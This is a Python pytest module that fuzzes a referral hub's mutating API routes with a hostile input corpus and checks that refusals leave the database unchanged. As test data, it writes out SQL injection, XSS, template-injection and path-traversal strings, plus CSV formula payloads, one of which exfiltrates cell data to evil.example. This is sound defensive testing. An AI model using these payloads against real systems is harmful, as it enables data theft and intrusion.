"""Hostile input corpus: every mutating route x at least 200 hostile inputs.

The routes come from the app's url_map (and are checked against the OpenAPI document), so a
new POST/PUT/PATCH/DELETE route fails `test_every_mutating_route_is_classified` until it is
given a target here; each target then gets the whole corpus:

- intake: bodies over 1 MiB, wrong content types and charsets, bad encodings (invalid UTF-8,
  overlong forms, UTF-16/32 with BOMs, a UTF-8 BOM), broken JSON, non-object documents,
  NaN/Infinity and overflowing numbers, duplicate keys, deep nesting;
- per field, derived from the endpoint's marshmallow schema (nested ones included): wrong
  JSON types, null where not nullable, out-of-range numbers and lengths, values outside
  enums and patterns, malformed ids, e-mails, URLs and datetimes;
- control and bidi characters, and injection strings (SQL, HTML/script, CSV formulas such as
  =HYPERLINK(...), template syntax such as {{7*7}}) in every string field: all of them in the
  first free-text field, a sample in the others (each one read back by the verbatim test);
- server-owned fields (id, created_at, status, agency_id of another tenant, ...);
- other tenants' ids, missing ids and garbage in every path parameter and in the body ids
  that must belong to the caller's agency;
- bad, expired, revoked and suspended bearer tokens, tokens without the scope, token plus
  session cookie;
- replayed Idempotency-Keys with other bodies (and malformed keys);
- missing and forged CSRF tokens on session-authenticated calls.

Every response: no 5xx, an X-Request-Id, and every API error is application/problem+json in
the documented shape (`errors` naming the field for validation errors). The OAuth endpoints
answer RFC 6749 error objects and the staff pages HTML, as the design says.

After refused requests the database fingerprint (row counts plus a hash of the contents of
every table in both databases, the key store included) is unchanged. Left out, and why:
- `audit_event`, `audit_head`, `audit_checkpoint`: refusals are *meant* to leave a record
  (`access.denied` for a forbidden action or another tenant's id, failed sign-ins and client
  authentications), written after the request rolled back. Instead of ignoring them, every
  event added by refused requests is checked to be such a denial or failure record (or
  the record that a survivor was shown her page, which a refused form at her door shows
  again).
- `rate_limit_counter`: every authenticated API call and every failed sign-in is counted and
  committed before the request runs, on purpose (a rolled-back request must still count).
- `staff_session.last_seen_at`: touched by any request at most once a minute; and in a
  survivor's session (`staff_session.data`) her idle clock `me.seen`, moved by every
  request at her door (`/me`) so that her session ends after some idle minutes.
Requests that are accepted (the valid baselines, free text that may hold any string) are
rolled back to a savepoint at once, so every input meets the same state.
"""

from __future__ import annotations

import base64
import copy
import csv
import hashlib
import io
import itertools
import json
import re
import urllib.parse
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from dataclasses import fields as dataclass_fields
from datetime import timedelta
from typing import Any, cast

import pyotp
import pytest
from flask import Flask
from flask.testing import FlaskClient
from joserfc.jwk import ECKey
from markupsafe import escape
from marshmallow import Schema, fields, validate
from sqlalchemy import Connection, MetaData, Table, select, update

from referral_hub.core.actor import Actor, ActorKind, survivor_actor
from referral_hub.core.db import transaction
from referral_hub.extensions import db
from referral_hub.referrals.deadlines import Urgency
from tests import factories
from tests.conftest import rolled_back_app

ASSERTION_TYPE = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"
# a system's public keys (private_key_jwt), and a private key that must never be taken
_SIGNING_KEY = ECKey.generate_key("P-384", parameters={"kid": "hostile"})
CLIENT_JWKS = {"keys": [_SIGNING_KEY.as_dict(private=False)]}
PRIVATE_JWK = _SIGNING_KEY.as_dict(private=True)

MUTATING = frozenset({"POST", "PUT", "PATCH", "DELETE"})
MIN_INPUTS_PER_ROUTE = 200
MIN_INPUTS_IN_ALL = 5000
CHUNK = 25  # requests between two fingerprints; a changed one is re-run request by request
ONE_MIB = 1024 * 1024

# --- the corpus: strings ------------------------------------------------------------------

INJECTION = {
    "sql quote break": "'; DROP TABLE agency; --",
    "sql tautology": "' OR '1'='1",
    "sql union": "x' UNION SELECT password_hash FROM user_account --",
    "sql stacked sleep": "1; SELECT pg_sleep(5)--",
    "sql comment": "admin'/*",
    "html script": "<script>alert(1)</script>",
    "html img onerror": "<img src=x onerror=alert(1)>",
    "html attribute break": '"><svg onload=alert(1)>',
    "javascript url": "javascript:alert(document.cookie)",
    "csv hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
    "csv plus": "+cmd|' /C calc'!A0",
    "csv minus": "-2+3+cmd|' /C calc'!A0",
    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv tab": "\t=1+1",
    "csv carriage return": "\r=1+1",
    "jinja expression": "{{7*7}}",
    "jinja config": "{{ config.items() }}",
    "jinja statement": "{% for x in range(9999999) %}x{% endfor %}",
    "dollar template": "${7*7}",
    "erb template": "<%= 7*7 %>",
    "path traversal": "../../../etc/passwd",
    "format string": "%s%s%s%n",
    "log line forging": "ok\n2026-01-01 INFO forged line",
}
CONTROL = {
    "bidi override": "abc\u202etxt.exe",
    "bidi isolates": "\u2066evil\u2069",
    "bidi embedding": "\u202aname\u202c",
    "zero width space": "na\u200bme",
    "zero width joiner": "a\u200db",
    "BOM inside": "na\ufeffme",
    "BEL": "ring\x07",
    "ANSI escape": "\x1b[31mred\x1b[0m",
    "backspaces": "abc\x08\x08\x08xyz",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "CRLF": "line1\r\nline2",
    "NEL and line separators": "a\u0085b\u2028c\u2029d",
    "DEL": "a\x7fb",
    "C1 control": "a\x9bb",
    "combining marks": "a" + "\u0301" * 30,
    "astral and ZWJ emoji": "\U0001f3e0 shelter \U0001f469\u200d\U0001f467",
    "noncharacters": "a\ufffeb\uffff",
    "private use": "\ue000\ue001",
}
STRINGS = {**INJECTION, **CONTROL}
SAMPLE = (
    "sql quote break",
    "html script",
    "csv hyperlink",
    "jinja expression",
    "bidi override",
    "zero width space",
    "CRLF",
    "ANSI escape",
)
# refused at intake whatever the field (400): they make one parser see another document
INTAKE_REFUSED_STRINGS = {"NUL": "na\x00me", "lone surrogate": "na\ud800me"}

# --- the corpus: raw bodies ---------------------------------------------------------------

BROKEN_JSON: dict[str, bytes] = {
    "open brace": b"{",
    "close brace": b"}",
    "open bracket": b"[",
    "key without value": b'{"a"}',
    "colon without value": b'{"a":}',
    "trailing comma in object": b'{"a": 1,}',
    "trailing comma in array": b'{"a": [1,]}',
    "single quotes": b"{'a': 1}",
    "unquoted key": b"{a: 1}",
    "two documents": b'{"a": 1} {"b": 2}',
    "trailing bracket": b'{"a": 1}]',
    "trailing garbage": b'{"a": 1} extra',
    "undefined": b'{"a": undefined}',
    "hex number": b'{"a": 0x10}',
    "leading zero": b'{"a": 01}',
    "bare fraction": b'{"a": .5}',
    "plus sign": b'{"a": +1}',
    "dangling point": b'{"a": 1.}',
    "incomplete exponent": b'{"a": 1e}',
    "double minus": b'{"a": --1}',
    "raw control character": b'{"a": "x\x01y"}',
    "raw newline in string": b'{"a": "x\ny"}',
    "bad escape": b'{"a": "\\x41"}',
    "short unicode escape": b'{"a": "\\u12"}',
    "unterminated string": b'{"a": "unterminated}',
    "block comment": b'/* c */ {"a": 1}',
    "line comment": b'{"a": 1} // c',
    "Python True": b'{"a": True}',
    "Python None": b'{"a": None}',
    "misspelt null": b'{"a": nul}',
    "NUL byte": b"\x00",
    "only whitespace": b" \n\t ",
    "escaped lone high surrogate": b'{"a": "\\ud83d"}',
    "escaped lone low surrogate": b'{"a": "\\ude00x"}',
    "escaped NUL": b'{"a": "\\u0000"}',
}
NOT_AN_OBJECT: dict[str, bytes] = {
    "a string": b'"just a string"',
    "null": b"null",
    "a number": b"123",
    "true": b"true",
    "an empty array": b"[]",
    "an array of objects": b"[{}]",
}
NUMBERS_REFUSED: dict[str, str] = {
    "NaN": "NaN",
    "-NaN": "-NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "1e999": "1e999",
    "-1e999": "-1e999",
    "5000-digit integer": "9" * 5000,
    "5000-digit negative": "-" + "9" * 5000,
}
CONTENT_TYPES = {
    "text/plain": "text/plain",
    "form": "application/x-www-form-urlencoded",
    "multipart": "multipart/form-data; boundary=xyz",
    "xml": "application/xml",
    "html": "text/html",
    "javascript": "application/javascript",
    "text/json": "text/json",
    "x-json": "application/x-json",
    "octet-stream": "application/octet-stream",
    "image": "image/png",
    "latin-1 charset": "application/json; charset=latin-1",
    "utf-16 charset": "application/json; charset=utf-16",
    "utf-32 charset": "application/json; charset=utf-32",
    "no content type": "",
}


def bad_encodings(document: bytes) -> dict[str, bytes]:
    """The same document, or one string in it, in encodings the hub must refuse (400)."""
    text = document.decode()
    return {
        "invalid byte 0xff": b'{"a": "Caf\xffe"}',
        "latin-1 e-acute": b'{"a": "Caf\xe9"}',
        "truncated sequence": b'{"a": "x\xc3"}',
        "overlong slash": b'{"a": "\xc0\xaf"}',
        "overlong NUL": b'{"a": "\xc0\x80"}',
        "CESU-8 surrogate": b'{"a": "\xed\xa0\x80"}',
        "above U+10FFFF": b'{"a": "\xf4\x90\x80\x80"}',
        "five-byte form": b'{"a": "\xf8\x88\x80\x80\x80"}',
        "lone continuation byte": b'{"a": "\x80"}',
        "UTF-8 BOM": b"\xef\xbb\xbf" + document,
        "UTF-16 LE with BOM": b"\xff\xfe" + text.encode("utf-16-le"),
        "UTF-16 BE with BOM": b"\xfe\xff" + text.encode("utf-16-be"),
        "UTF-16 LE without BOM": text.encode("utf-16-le"),
        "UTF-32 with BOM": text.encode("utf-32"),
    }


# server-owned names a caller might try to set, each with a tempting value ({other} is
# replaced by the other tenant's agency id, {other_user} by one of its users)
SERVER_OWNED: dict[str, Any] = {
    "id": "{other_object}",
    "created_at": "2020-01-01T00:00:00Z",
    "updated_at": "2020-01-01T00:00:00Z",
    "status": "active",
    "agency_id": "{other}",
    "owner_agency_id": "{other}",
    "owner_agency": "{other}",
    "created_by": "{other_user}",
    "recorded_by": "{other_user}",
    "sender_agency": "{other}",
    "receiver_agency_id": "{other}",
    "client_secret": "rhs_forged",
    "secret": "whsec_forged",
    "secret_hash": "0" * 64,
    "password_hash": "$argon2id$forged",
    "totp_secret": "JBSWY3DPEHPK3PXP",
    "is_active": True,
    "held": 5,
    "stale": False,
    "reference": "FORGED-1",
    "erased_at": "2020-01-01T00:00:00Z",
    "revoked_at": None,
    "sent_at": "2020-01-01T00:00:00Z",
    "hsds_id": "forged",
    "seq": 1,
    "chain_hash": "0" * 64,
    "roles": ["hub_admin"],
    "scopes": ["admin", "audit:read"],
    "__proto__": {"admin": True},
    "constructor": {"prototype": {"admin": True}},
    "$where": "1 == 1",
}
GARBAGE_SEGMENTS = {
    "not a uuid": "not-a-uuid",
    "zero": "0",
    "uuid with suffix": "{uuid}x",
    "uuid without a digit": "{uuid_short}",
    "sql": "' OR 1=1 --",
    "html": "<script>alert(1)</script>",
    "template": "{{7*7}}",
    "traversal": "../../etc/passwd",
    "NUL": "\x00",
    "bidi": "\u202e",
    "5000 characters": "a" * 5000,
}

# --- the world: two tenants and a third agency, as plain ids --------------------------------


@dataclass(frozen=True)
class Person:
    user_id: str
    agency_id: str
    roles: tuple[str, ...]
    email: str
    totp: str | None

    def actor(self) -> Actor:
        return Actor(ActorKind.USER, self.user_id, uuid.UUID(self.agency_id), frozenset(self.roles))


@dataclass(frozen=True)
class World:
    """Agency A (own, whose staff act), agency B (other tenant), agency C (third: receives)."""

    own: str
    other: str
    third: str
    own_user: str
    other_user: str
    own_api_client: str
    other_api_client: str
    own_service: str
    other_service: str
    third_service: str
    fourth_service: str
    own_client: str
    other_client: str
    own_consent: str
    other_consent: str
    own_referral: str
    other_referral: str
    own_webhook: str
    other_webhook: str
    own_bundle: str
    own_accepted: str  # urgent, sent by A, accepted by C: C may extend its hold
    other_accepted: str  # urgent, sent by B, accepted by A
    own_overflow: str  # an overflow window on A's service
    other_overflow: str  # and on B's
    her_client: str  # agency A's client who holds an access code to her own door
    her_consent: str
    own_erasure_request: str  # asked for at the door, by agency A's client / agency B's
    other_erasure_request: str
    # organisations not on the hub (A's, B's), her consent naming A's, a referral to each
    # and its one-time link (the token: the link page's path)
    own_organisation: str
    other_organisation: str
    own_outside_consent: str
    own_outside: str
    other_outside: str
    own_link: str
    other_link: str
    own_link_token: str
    people: dict[str, Person]
    tokens: dict[str, str]  # label -> bearer token (all of them unusable for these calls)
    client_credentials: tuple[str, str]  # (client_id, secret) of agency A's system
    her_sign_in: tuple[str, str]  # (code, PIN) that open her door, `/me`

    def ids(self) -> dict[str, str]:
        return {
            f.name: getattr(self, f.name)
            for f in dataclass_fields(self)
            if isinstance(getattr(self, f.name), str)
        }


def fake_world() -> World:
    """Random ids: enough to build (and count) the corpus without a database."""
    person = Person(str(uuid.uuid4()), str(uuid.uuid4()), ("intake",), "x@agency.example", None)
    names = [f.name for f in dataclass_fields(World)]
    values: dict[str, Any] = {name: str(uuid.uuid4()) for name in names}
    values["people"] = dict.fromkeys(PEOPLE, person)
    values["tokens"] = dict.fromkeys(TOKEN_LABELS, "rht_fake")
    values["client_credentials"] = ("rhc_fake", "rhs_fake")
    values["her_sign_in"] = ("AAAA-BBBB-CCCC-DDDD", HER_PIN)
    return World(**values)


PEOPLE = {
    "hub_admin": ("own", ("hub_admin",)),
    "admin": ("own", ("agency_admin",)),
    "intake": ("own", ("intake",)),
    "provider": ("own", ("provider",)),
    "receiver": ("third", ("provider",)),
    "enrolling": ("own", ("agency_admin",)),  # TOTP required, not set up yet
    "second_factor": ("own", ("intake",)),  # TOTP optional, not set up
    "coordinator": ("own", ("coordinator",)),
}
# not staff: she signs in at her own door (`/me/sign-in`) with her code and PIN
SURVIVOR = "survivor"
HER_PIN = "4921"
TOKEN_LABELS = (
    "narrow scope",
    "expired",
    "revoked",
    "suspended client",
    "suspended agency",
    "other tenant",
)


def clock_now() -> Any:
    from referral_hub.core import clock

    return clock.now()


def build_world(http: FlaskClient) -> World:
    """Real rows through the real services, committed (once per module: see `built`)."""
    from referral_hub.agencies import outside as outside_organisations
    from referral_hub.agencies.models import AgencyStatus, User
    from referral_hub.auth.models import AccessToken, ApiClient, digest
    from referral_hub.auth.service import create_api_client
    from referral_hub.clients.service import create_client
    from referral_hub.consent.service import record_consent
    from referral_hub.core.actor import SYSTEM
    from referral_hub.directory.capacity import open_overflow
    from referral_hub.notifications.webhooks import subscribe
    from referral_hub.referrals import bundles, outside
    from referral_hub.referrals import service as referrals
    from referral_hub.survivor import access as survivor_access
    from referral_hub.survivor import service as survivor

    with transaction():
        agencies = {name: factories.agency() for name in ("own", "other", "third", "frozen")}
        people: dict[str, Person] = {}
        for label, (where, roles) in PEOPLE.items():
            user: User = factories.with_password(factories.user(agencies[where], roles))
            secret = (
                factories.with_totp(user)
                if label not in ("enrolling", "second_factor") and user.needs_totp
                else None
            )
            people[label] = Person(str(user.id), str(user.agency_id), roles, user.email, secret)
        own_user = factories.user(agencies["own"], ["provider"])
        other_user = factories.user(agencies["other"], ["provider"])
        own_api, _ = create_api_client(
            SYSTEM, agency_id=agencies["own"].id, name="Own", scopes=["directory:read"]
        )
        other_api, _ = create_api_client(
            SYSTEM, agency_id=agencies["other"].id, name="Other", scopes=["directory:read"]
        )
        own_service = factories.directory_service(agencies["own"])
        factories.capacity(own_service, total=4, available=2)
        other_service = factories.directory_service(agencies["other"])
        third_service = factories.directory_service(agencies["third"], "emergency_shelter")
        factories.capacity(third_service, total=4, available=2)
        fourth_service = factories.directory_service(agencies["third"], "case_management")
        records: dict[str, Any] = {}
        for name in ("own", "other"):
            actor = Actor(ActorKind.USER, "hostile", agencies[name].id, frozenset({"intake"}))
            record = create_client(actor, pii={"contact": "hostile"}, profile={"language": "en"})
            records[f"{name}_client"] = record
            records[f"{name}_consent"] = record_consent(
                actor,
                record.id,
                recipients=[agencies["third"].id],
                purposes=["emergency_shelter"],
                data_categories=["contact"],
                method="written",
                signer="survivor",
                form_version="1",
                form_language="en",
                signed_at=clock_now(),
            )
            admin = Actor(ActorKind.USER, "hostile", agencies[name].id, frozenset({"agency_admin"}))
            # an event the corpus never causes: no delivery attempts to a host that is not there
            records[f"{name}_webhook"] = subscribe(
                admin, url="https://partner.example/h", events=["referral.entered_in_error"]
            )[0]
        own_intake = people["intake"].actor()
        # her door: a client of agency A with a code, sharing with agency C under one consent
        her = create_client(own_intake, pii={"contact": "her own"}, profile={"language": "en"})
        records["her_client"] = her
        records["her_consent"] = record_consent(
            own_intake,
            her.id,
            recipients=[agencies["third"].id],
            purposes=["emergency_shelter"],
            data_categories=["contact"],
            method="written",
            signer="survivor",
            form_version="1",
            form_language="en",
            signed_at=clock_now(),
        )
        her_code = survivor_access.issue_code(own_intake, her.id, HER_PIN).code
        for name in ("own", "other"):  # erasures asked for at the door, not yet confirmed
            asking = survivor_actor(records[f"{name}_client"].id)
            records[f"{name}_erasure_request"] = survivor.request_erasure(asking)
        referred = create_client(own_intake, profile={"language": "en"})
        records["own_referral"] = referrals.send_referral(
            own_intake,
            client_id=referred.id,
            service_id=third_service.id,
            urgency=Urgency.ROUTINE,
            data_categories=["profile"],
        )
        other_actor = Actor(ActorKind.USER, "hostile", agencies["other"].id, frozenset({"intake"}))
        other_person = create_client(other_actor, profile={"language": "en"})
        records["other_referral"] = referrals.send_referral(
            other_actor,
            client_id=other_person.id,
            service_id=own_service.id,
            urgency=Urgency.ROUTINE,
            data_categories=["profile"],
        )
        for name, intake in (("own", own_intake), ("other", other_actor)):
            refuge = outside_organisations.add_organisation(
                intake, name=f"Refuge {name}", phone="+1 555 0100", email="desk@refuge.example"
            )
            records[f"{name}_organisation"] = refuge
            named = factories.written_consent(
                intake,
                records[f"{name}_client"].id,
                recipients=[refuge.id],
                purposes=["emergency_shelter"],
                data_categories=["contact"],
            )
            if name == "own":
                records["own_outside_consent"] = named
            records[f"{name}_outside"] = outside.refer_outside(
                intake,
                client_id=records[f"{name}_client"].id,
                organisation_id=refuge.id,
                consent_id=named.id,
                purpose="emergency_shelter",
                urgency=Urgency.ROUTINE,
                data_categories=["contact"],
            )
            link, token = outside.issue_link(intake, records[f"{name}_outside"].id)
            records[f"{name}_link"] = link
            if name == "own":
                link_token = token
        # accepted urgent referrals, one received by each caller that may extend its hold
        third_provider = Actor(
            ActorKind.USER, "hostile", agencies["third"].id, frozenset({"provider"})
        )
        own_provider = Actor(ActorKind.USER, "hostile", agencies["own"].id, frozenset({"provider"}))
        for name, sender, service, receiver in (
            ("own_accepted", own_intake, third_service, third_provider),
            ("other_accepted", other_actor, own_service, own_provider),
        ):
            person = create_client(sender, profile={"language": "en"})
            records[name] = referrals.send_referral(
                sender,
                client_id=person.id,
                service_id=service.id,
                urgency=Urgency.URGENT,
                data_categories=["profile"],
            )
            referrals.transition(receiver, records[name].id, "accept")
        # an overflow window open on the own and on another agency's service
        for name, service in (("own_overflow", own_service), ("other_overflow", other_service)):
            records[name] = open_overflow(
                SYSTEM,
                service.id,
                starts_at=clock_now(),
                ends_at=clock_now() + timedelta(days=2),
                places=2,
            )
        records["own_bundle"] = bundles.create_bundle(
            own_intake,
            client_id=referred.id,
            urgency=Urgency.ROUTINE,
            needs=[
                {
                    "category": "case_management",
                    "service_ids": [fourth_service.id],
                    "data_categories": ["profile"],
                }
            ],
        )
        all_scopes = ["capacity:write", "clients:write", "clients:read", "referrals:read"]
        all_scopes += ["referrals:write", "admin", "directory:read"]
        credentials = {
            "own": factories.api_client(agencies["own"], all_scopes),
            "narrow scope": factories.api_client(agencies["own"], ["directory:read"]),
            "expired": factories.api_client(agencies["own"], all_scopes),
            "revoked": factories.api_client(agencies["own"], all_scopes),
            "suspended client": factories.api_client(agencies["own"], all_scopes),
            "suspended agency": factories.api_client(agencies["frozen"], all_scopes),
            "other tenant": factories.api_client(agencies["other"], all_scopes),
        }
        ids = {
            "own": str(agencies["own"].id),
            "other": str(agencies["other"].id),
            "third": str(agencies["third"].id),
            "own_user": str(own_user.id),
            "other_user": str(other_user.id),
            "own_api_client": str(own_api.id),
            "other_api_client": str(other_api.id),
            "own_service": str(own_service.id),
            "other_service": str(other_service.id),
            "third_service": str(third_service.id),
            "fourth_service": str(fourth_service.id),
            **{name: str(row.id) for name, row in records.items()},
            "own_link_token": link_token,
        }
    tokens = {label: factories.token(http, *credentials[label]) for label in TOKEN_LABELS}
    with transaction() as session:  # make each token unusable in its own way
        session.execute(
            update(AccessToken)
            .where(AccessToken.token_hash == digest(tokens["expired"]))
            .values(expires_at=clock_now() - timedelta(minutes=1))
        )
        session.execute(
            update(AccessToken)
            .where(AccessToken.token_hash == digest(tokens["revoked"]))
            .values(revoked_at=clock_now())
        )
        session.execute(
            update(ApiClient)
            .where(ApiClient.client_id == credentials["suspended client"][0])
            .values(is_active=False)
        )
        agencies["frozen"].status = AgencyStatus.SUSPENDED
    db.session.remove()  # from here on only plain ids: no ORM state to go stale
    return World(
        **ids,
        people=people,
        tokens=tokens,
        client_credentials=credentials["own"],
        her_sign_in=(her_code, HER_PIN),
    )


def sign_in(http: FlaskClient, person: Person) -> str:
    """Sign in through the real pages; returns the session's CSRF token."""
    page = http.get("/login").get_data(as_text=True)
    response = http.post(
        "/login",
        data={
            "email": person.email,
            "password": factories.TEST_PASSWORD,
            "csrf_token": factories.csrf_from(page),
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    if response.headers["Location"].endswith("/login/code"):
        assert person.totp, "this person needs a TOTP secret"
        page = http.get("/login/code").get_data(as_text=True)
        response = http.post(
            "/login/code",
            data={"code": pyotp.TOTP(person.totp).now(), "csrf_token": factories.csrf_from(page)},
        )
        assert response.status_code == 302, response.get_data(as_text=True)
    return factories.csrf_from(http.get("/?overview=1").get_data(as_text=True))


def sign_in_at_her_door(http: FlaskClient, w: World) -> str:
    """She signs in at `/me` with her code and PIN; returns her session's CSRF token."""
    code, pin = w.her_sign_in
    page = http.get("/me").get_data(as_text=True)
    response = http.post(
        "/me/sign-in", data={"code": code, "pin": pin, "csrf_token": factories.csrf_from(page)}
    )
    assert response.status_code == 303, response.get_data(as_text=True)
    return factories.csrf_from(http.get("/me").get_data(as_text=True))


# --- cases ----------------------------------------------------------------------------------

REJECT, EITHER, ACCEPT, NOOP = "reject", "either", "accept", "noop"


@dataclass(frozen=True)
class Case:
    """One request and what it may answer.

    outcome: REJECT (4xx only), EITHER (free text: may be taken or refused), ACCEPT (the
    valid baselines: 2xx), NOOP (may answer 2xx but must change nothing, e.g. a replay).
    """

    label: str
    category: str
    method: str
    path: str
    body: bytes | None = None
    content_type: str | None = "application/json"
    headers: tuple[tuple[str, str], ...] = ()
    acting: bool = True  # act_as the target's person; False: credentials in the request
    via: str = "plain"  # which test client: "plain" (no cookies) or "session"
    outcome: str = REJECT
    statuses: frozenset[int] | None = None  # allowed statuses, when the category fixes them
    names: str | None = None  # a validation error must name this field
    sent: Any = None  # the value sent, for the verbatim check of accepted free text
    sent_at: tuple[Any, ...] = ()

    def describe(self) -> str:
        return f"[{self.category}] {self.label}"


def dumps(document: Any) -> bytes:
    """UTF-8 JSON; a lone surrogate (not encodable) goes as its \\u escape, as a client sends it."""
    try:
        return json.dumps(document, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(document).encode("ascii")


def with_value(document: Any, path: tuple[Any, ...], value: Any) -> Any:
    """A deep copy of `document` with `value` at `path` (dicts and lists made as needed)."""
    result = copy.deepcopy(document) if document is not None else {}
    node = result
    for index, key in enumerate(path[:-1]):
        following = path[index + 1]
        if isinstance(node, dict):
            if not isinstance(node.get(key), dict | list):
                node[key] = [{}] if isinstance(following, int) else {}
            node = node[key]
        else:
            while len(node) <= key:
                node.append({})
            node = node[key]
    if isinstance(node, list):
        while len(node) <= path[-1]:
            node.append(None)
    node[path[-1]] = value
    return result


def raw_at(document: Any, path: tuple[Any, ...], raw: str) -> bytes:
    """`document` with the raw JSON text `raw` at `path` (for NaN, huge numbers...)."""
    marker = "__HOSTILE_RAW_VALUE__"
    return dumps(with_value(document, path, marker)).replace(f'"{marker}"'.encode(), raw.encode())


def dotted(path: tuple[Any, ...]) -> str:
    return ".".join(str(part) for part in path)


# --- schema-derived mutations -----------------------------------------------------------------

STRING_LIKE = (fields.String, fields.UUID, fields.DateTime, fields.Date, fields.Enum)
WRONG_FOR_STRING = {"a number": 42, "a float": 4.2, "true": True, "a list": ["x"], "an object": {}}
WRONG_FOR_NUMBER = {"a numeric string": "3", "true": True, "a list": [1], "an object": {}}
WRONG_FOR_BOOL = {"a string": "true", "1": 1, "0": 0, "a list": [True], "an object": {}}
WRONG_FOR_LIST = {"a string": "x", "an object": {}, "a number": 5, "true": True}
WRONG_FOR_OBJECT = {"a string": "x", "a list": [], "a number": 5, "true": True}


def _validators(field_: fields.Field[Any]) -> list[Any]:
    return list(getattr(field_, "validators", []) or [])


def is_free_text(field_: fields.Field[Any]) -> bool:
    """A string field that takes any text (up to a length): where injection strings belong."""
    if not isinstance(field_, fields.String) or isinstance(
        field_, fields.Email | fields.Url | fields.UUID
    ):
        return False
    return not any(isinstance(v, validate.OneOf | validate.Regexp) for v in _validators(field_))


def walk(
    schema: Schema, base: Any, prefix: tuple[Any, ...] = ()
) -> Iterator[tuple[tuple[Any, ...], fields.Field[Any]]]:
    """Every loadable field, nested schemas and list items included, with its path."""
    for name, field_ in schema.fields.items():
        if field_.dump_only:
            continue
        key = field_.data_key or name
        path = (*prefix, key)
        yield path, field_
        sub = base.get(key) if isinstance(base, dict) else None
        if isinstance(field_, fields.Nested):
            nested = field_.schema
            if field_.many:
                yield from walk(nested, (sub or [{}])[0], (*path, 0))
            else:
                yield from walk(nested, sub or {}, path)
        elif isinstance(field_, fields.List):
            inner = field_.inner
            yield (*path, 0), inner
            if isinstance(inner, fields.Nested):
                yield from walk(inner.schema, (sub or [{}])[0], (*path, 0))


def field_mutations(
    field_: fields.Field[Any], every_string: bool = False
) -> list[tuple[str, Any, str, frozenset[int]]]:
    """(label, value, outcome, statuses) for one field: types, nulls, ranges, formats, and
    hostile strings (all of them with `every_string`, else a sample)."""
    out: list[tuple[str, Any, str, frozenset[int]]] = []
    bad_type, bad_value = frozenset({400}), frozenset({422})

    def wrong(values: dict[str, Any]) -> None:
        out.extend(
            (f"wrong type: {label}", value, REJECT, bad_type) for label, value in values.items()
        )

    def invalid(label: str, value: Any) -> None:
        out.append((label, value, REJECT, bad_value))

    if isinstance(field_, fields.Boolean):
        wrong(WRONG_FOR_BOOL)
    elif isinstance(field_, fields.Integer | fields.Float):
        wrong(WRONG_FOR_NUMBER)
    elif isinstance(field_, fields.Nested):
        wrong(WRONG_FOR_LIST if field_.many else WRONG_FOR_OBJECT)
    elif isinstance(field_, fields.List):
        wrong(WRONG_FOR_LIST)
    elif isinstance(field_, fields.Dict):
        wrong(WRONG_FOR_OBJECT)
    elif isinstance(field_, STRING_LIKE):
        wrong(WRONG_FOR_STRING)
    if not field_.allow_none:  # a value problem (422), or for an object a type one (400)
        out.append(("null where not nullable", None, REJECT, frozenset({400, 422})))
    for validator in _validators(field_):
        if isinstance(validator, validate.Range):
            low, high = validator.min, validator.max
            if low is not None:
                invalid(f"below the minimum {low}", low - 1)
                invalid("far below the minimum", -(10**20))
            if high is not None:
                invalid(f"above the maximum {high}", high + 1)
                invalid("beyond 64 bits", 10**20)
                if isinstance(field_, fields.Float):
                    invalid("largest double", 1.7e308)
        elif isinstance(validator, validate.Length):
            low, high = validator.min, validator.max
            filler: Any = "x" if isinstance(field_, fields.String) else None
            if isinstance(field_, fields.List):
                filler = _valid_item(field_.inner)
            if filler is None:
                continue
            many = isinstance(field_, fields.List)
            if low:
                invalid(f"shorter than {low}", [filler] * (low - 1) if many else filler * (low - 1))
            if high is not None:
                invalid(
                    f"longer than {high}", [filler] * (high + 1) if many else filler * (high + 1)
                )
        elif isinstance(validator, validate.OneOf):
            choice = str(next(iter(validator.choices)))
            invalid("not one of the choices", "not-a-choice")
            invalid("a choice in capitals", choice.upper() + "X")
            invalid("a choice with a trailing space", choice + " ")
            invalid("a choice with a zero-width space", choice + "\u200b")
        elif isinstance(validator, validate.Regexp):
            invalid("not matching the pattern", "x y z !")
            invalid("the pattern with a trailing newline", "ab\n")
    if isinstance(field_, fields.Enum):
        invalid("not in the enum", "not-a-member")
        invalid("the enum's name, not its value", "Shelter\u200b")
    if isinstance(field_, fields.UUID):
        invalid("not a uuid", "not-a-uuid")
        invalid("uuid with a bad digit", "00000000-0000-0000-0000-00000000000g")
        invalid("empty string id", "")
    if isinstance(field_, fields.Email):
        for label, value in {
            "no at sign": "not-an-email",
            "no domain dot": "a@b",
            "markup": "<script>@x.example",
            "trailing newline": "a@b.example\n",
            "300 characters": "x" * 300 + "@example.org",
        }.items():
            invalid(f"e-mail: {label}", value)
    if isinstance(field_, fields.Url):
        for label, value in {
            "javascript": "javascript:alert(1)",
            "data": "data:text/html,<script>alert(1)</script>",
            "no host": "http://",
            "protocol relative": "//evil.example/x",
            "space in host": "http://exa mple.org/",
            "file": "file:///etc/passwd",
        }.items():
            invalid(f"url: {label}", value)
    if isinstance(field_, fields.DateTime):
        for label, value in {
            "words": "yesterday",
            "month 13": "2026-13-01T00:00:00Z",
            "hour 25": "2026-01-01T25:00:00Z",
            "naive": "2026-01-01T00:00:00",
            "year 0": "0000-01-01T00:00:00Z",
        }.items():
            invalid(f"datetime: {label}", value)
    elif isinstance(field_, fields.Date):
        for label, value in {"words": "yesterday", "30 February": "2026-02-30"}.items():
            invalid(f"date: {label}", value)
    if isinstance(field_, STRING_LIKE) and not isinstance(field_, fields.DateTime | fields.Date):
        free = is_free_text(field_)
        # free text may take them (stored verbatim); a pattern or a list of choices refuses
        strings = itertools.chain(INJECTION.items(), CONTROL.items())
        for label, value in strings if every_string else ((k, STRINGS[k]) for k in SAMPLE):
            out.append((f"string: {label}", value, EITHER if free else REJECT, frozenset()))
        # within the 1 MiB body: a field without a length limit must not overflow a column
        out.append(
            ("string: 10,000 characters", "x" * 10_000, EITHER if free else REJECT, frozenset())
        )
    if isinstance(field_, STRING_LIKE):
        for label, value in INTAKE_REFUSED_STRINGS.items():
            out.append((f"string: {label}", value, REJECT, bad_type))
    return out


